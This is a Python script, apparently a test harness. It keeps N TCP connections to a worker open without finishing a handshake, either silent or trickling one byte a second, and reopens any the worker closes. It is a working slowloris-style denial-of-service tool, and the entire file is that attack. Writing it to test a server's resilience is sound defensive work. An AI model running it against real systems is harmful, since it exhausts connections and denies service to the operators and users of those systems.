"""An attacker on the worker's network: keeps N connections to a worker open that never finish a
handshake (silent, or writing one byte a second), reopening twice a second any the worker
closed, until killed or `seconds` pass. Run as
`python flood.py HOST PORT N silent|slow SECONDS [SOURCE_ADDRESS]`."""

import selectors
import socket
import sys
import time


def open_one(host: str, port: int, source: str) -> socket.socket | None:
    s = socket.socket()
    s.bind((source, 0))
    s.setblocking(False)
    try:
        s.connect_ex((host, port))
    except OSError:
        s.close()
        return None
    return s


def main(host: str, port: int, n: int, mode: str, seconds: float, source: str = "127.0.0.2") -> None:
    sel = selectors.DefaultSelector()
    open_now, deadline, last_byte, last_reopen = 0, time.monotonic() + seconds, 0.0, 0.0
    print("flooding", flush=True)
    while time.monotonic() < deadline:
        while open_now < n and time.monotonic() - last_reopen > 0.5:  # reopen what the worker closed
            s = open_one(host, port, source)
            if s is None:
                break
            sel.register(s, selectors.EVENT_READ)
            open_now += 1
        if open_now >= n:
            last_reopen = time.monotonic()
        for key, _ in sel.select(timeout=0.2):  # readable: closed by the worker (or data we ignore)
            try:
                data = key.fileobj.recv(4096)
            except OSError:
                data = b""
            if not data:
                sel.unregister(key.fileobj)
                key.fileobj.close()
                open_now -= 1
        if mode == "slow" and time.monotonic() - last_byte > 1.0:
            last_byte = time.monotonic()
            for key in list(sel.get_map().values()):
                try:
                    key.fileobj.send(b"\x16")
                except OSError:
                    pass


if __name__ == "__main__":
    host, port, n, mode, seconds, *source = sys.argv[1:]
    main(host, int(port), int(n), mode, float(seconds), *source)
